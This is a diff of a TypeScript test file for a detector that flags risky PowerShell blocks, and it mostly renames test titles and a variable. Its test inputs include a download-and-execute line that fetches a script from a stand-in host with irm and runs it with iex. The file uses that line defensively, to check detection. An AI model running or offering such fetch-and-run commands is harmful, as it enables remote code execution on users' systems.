@@ -9,14 +9,14 @@ const loader = [
   "iex $code",
 ];
 
-it("PowerShell quotes that are unbalanced in a shell are not a limit", async () => {
+it("a PowerShell block that is not valid shell code is analyzed completely", async () => {
   const detector = await createNodeDetector({ profile: "extended" });
   const { spans, outcome } = detector.detect(`\`\`\`powershell\n${loader.join("\n")}\n\`\`\`\n`);
   expect([spans.length, outcome]).toEqual([1, { status: "complete" }]);
 });
 
-/** Statements that the grammar cannot parse. */
-const refused = [
+/** PowerShell statements that the grammar cannot parse. */
+const unparsable = [
   "Get-Process | Select-Object Name, Id",
   "<powershell>\nGet-Date\n</powershell>\n<persist>true</persist>",
   "if ($size -gt 4GB) { $size }",
@@ -54,7 +54,7 @@ const refused = [
   "$request.Method = [Net.WebRequestMethods+Ftp]::GetFileSize",
 ];
 
-it.each(refused)("%s is read, and the following text", async (statement) => {
+it.each(unparsable)("is analyzed completely, with the following lines: %s", async (statement) => {
   const detector = await createNodeDetector({ profile: "extended" });
   const script = (run: string): string => `\`\`\`powershell\n${statement}\n${run}\n\`\`\`\n`;
   const found = detector.detect(script("$c = irm https://x.example/a.ps1\niex $c"));
@@ -63,7 +63,7 @@ it.each(refused)("%s is read, and the following text", async (statement) => {
   expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
 });
 
-it("a member after parentheses is not an unterminated string in the contract profile", async () => {
+it("a member access after parentheses is analyzed completely in the contract profile", async () => {
   const detector = await createNodeDetector({ profile: "contract" });
   const script = [
     '$order = "size"',
